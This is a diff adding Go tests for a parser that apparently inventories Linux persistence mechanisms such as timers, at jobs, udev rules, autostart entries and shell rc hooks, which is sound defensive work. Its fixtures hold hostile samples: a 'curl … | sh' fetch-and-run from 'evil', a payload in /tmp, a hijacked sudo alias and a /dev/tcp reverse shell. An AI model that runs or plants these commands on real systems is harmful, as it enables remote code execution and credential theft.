@@ -0,0 +1,96 @@
+package persistence
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestParseTimer(t *testing.T) {
+	trigger, unit := ParseTimer("backup.timer", strings.NewReader(`[Unit]
+Description=backup
+
+[Timer]
+OnCalendar=daily
+OnBootSec=15min
+Persistent=true
+`))
+	if trigger != "OnCalendar=daily; OnBootSec=15min" || unit != "backup.service" {
+		t.Errorf("unexpected timer %q %q", trigger, unit)
+	}
+	_, unit = ParseTimer("x.timer", strings.NewReader("[Timer]\nOnCalendar=hourly\nUnit=y.service\n"))
+	if unit != "y.service" {
+		t.Errorf("unexpected unit %q", unit)
+	}
+	cmd := ServiceCommand(strings.NewReader("[Service]\nExecStartPre=/bin/true\nExecStart=/usr/bin/backup --all\n"))
+	if cmd != "/bin/true\n/usr/bin/backup --all" {
+		t.Errorf("unexpected command %q", cmd)
+	}
+}
+
+func TestParseAtJob(t *testing.T) {
+	e := ParseAtJob("a0000101b2c3d4", strings.NewReader(`#!/bin/sh
+# atrun uid=1000 gid=1000
+# mail alice 0
+umask 22
+HOME=/home/alice; export HOME
+cd /home/alice || {
+	 echo 'Execution directory inaccessible' >&2
+	 exit 1
+}
+${SHELL:-/bin/sh} << 'marcinDELIMITER6b6c0b52'
+curl -s http://evil/x | sh
+marcinDELIMITER6b6c0b52
+`))
+	if e.Uid != "1000" || e.Command != "curl -s http://evil/x | sh" || !strings.HasPrefix(e.Trigger, "at 2") {
+		t.Errorf("unexpected job %+v", e)
+	}
+	e = ParseAtJob("b0000200000000", strings.NewReader("cd / || {\n exit 1\n}\n/usr/bin/report\n"))
+	if e.Command != "/usr/bin/report" || !strings.HasPrefix(e.Trigger, "batch") {
+		t.Errorf("unexpected job %+v", e)
+	}
+}
+
+func TestParseUdevRules(t *testing.T) {
+	entries := ParseUdevRules(strings.NewReader(`# comment
+ACTION=="add", SUBSYSTEM=="usb", \
+  RUN+="/tmp/.x/payload.sh"
+KERNEL=="sd*", ENV{ID_FS_TYPE}=="vfat", MODE="0660"
+SUBSYSTEM=="net", ACTION=="add", RUN{program}+="/sbin/ifup $env{INTERFACE}"
+`))
+	if len(entries) != 2 {
+		t.Fatalf("unexpected entries %+v", entries)
+	}
+	if entries[0].Trigger != `ACTION=="add", SUBSYSTEM=="usb"` || entries[0].Command != "/tmp/.x/payload.sh" {
+		t.Errorf("unexpected entry %+v", entries[0])
+	}
+	if entries[1].Command != "/sbin/ifup $env{INTERFACE}" {
+		t.Errorf("unexpected entry %+v", entries[1])
+	}
+}
+
+func TestParseDesktopEntry(t *testing.T) {
+	e := ParseDesktopEntry(strings.NewReader("[Desktop Entry]\nName=Updater\nExec=/home/u/.local/bin/upd\nOnlyShowIn=GNOME;\n"))
+	if e == nil || e.Name != "Updater" || e.Command != "/home/u/.local/bin/upd" || e.Trigger != "desktop login (GNOME)" {
+		t.Errorf("unexpected entry %+v", e)
+	}
+	if e := ParseDesktopEntry(strings.NewReader("[Desktop Entry]\nExec=x\nHidden=true\n")); e != nil {
+		t.Errorf("hidden entry: %+v", e)
+	}
+}
+
+func TestProfileHooks(t *testing.T) {
+	hooks := ProfileHooks(strings.NewReader(`# ~/.bashrc
+export PATH=$PATH:/opt/bin
+eval "$(dircolors -b)"
+[ -f ~/.bash_aliases ] && . ~/.bash_aliases
+alias ll='ls -l'
+alias sudo='/tmp/.s/sudo'
+(bash -i >& /dev/tcp/10.0.0.1/4444 0>&1) &
+`))
+	if hooks != "alias sudo='/tmp/.s/sudo'\n(bash -i >& /dev/tcp/10.0.0.1/4444 0>&1) &" {
+		t.Errorf("unexpected hooks %q", hooks)
+	}
+	if cmd := RcLocalCommand(strings.NewReader("#!/bin/sh -e\n# rc.local\n/opt/agent/start\nexit 0\n")); cmd != "/opt/agent/start" {
+		t.Errorf("unexpected rc.local command %q", cmd)
+	}
+}